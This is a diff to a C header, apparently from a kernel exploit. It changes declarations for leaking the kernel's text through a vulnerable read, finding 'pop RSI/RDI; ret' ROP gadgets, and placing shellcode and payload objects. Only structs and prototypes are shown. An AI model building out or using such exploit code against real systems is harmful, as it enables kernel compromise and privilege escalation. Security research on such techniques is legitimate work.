@@ -123,20 +123,29 @@ void payload_object(void *at, uint64_t seen_at, const struct bw_leak *leak);
  */
 size_t payload_shellcode(void *at, const struct bw_leak *leak);
 
+/*
+ * The kernel's text, taken through the vulnerable read as far as it was looked at: each read is a
+ * system call, and what is looked for comes early.
+ */
+struct gadget_text {
+	uint64_t base;
+	size_t nr_bytes;
+	size_t nr_read;
+	uint8_t *copy;
+};
+
 /* `pop REGISTER`, any number of further pops, `ret`: somewhere in the kernel's text. */
 struct gadget {
 	uint64_t address;
+	uint64_t at_return;    /* that of its last instruction, the ret */
 	unsigned int nr_extra; /* further words that it pops */
 };
 enum gadget_register { GADGET_RSI = 6, GADGET_RDI = 7 };
 
-/*
- * A copy of the kernel's text, taken through the vulnerable read; ends the attack where there is
- * none.
- */
-uint8_t *gadget_text(const struct bw_leak *leak, size_t *nr_bytes);
-/* Finds a gadget in that copy; false where there is none. */
-bool gadget_find(const uint8_t *text, size_t nr_bytes, uint64_t text_base, enum gadget_register reg,
+/* Ends the attack where there is no memory for a copy. Nothing is read yet. */
+void gadget_text_open(struct gadget_text *text, const struct bw_leak *leak);
+/* Finds the first gadget at this address or above; false where there is none. */
+bool gadget_find(struct gadget_text *text, uint64_t from, enum gadget_register reg,
 		 struct gadget *gadget);
 
 /*
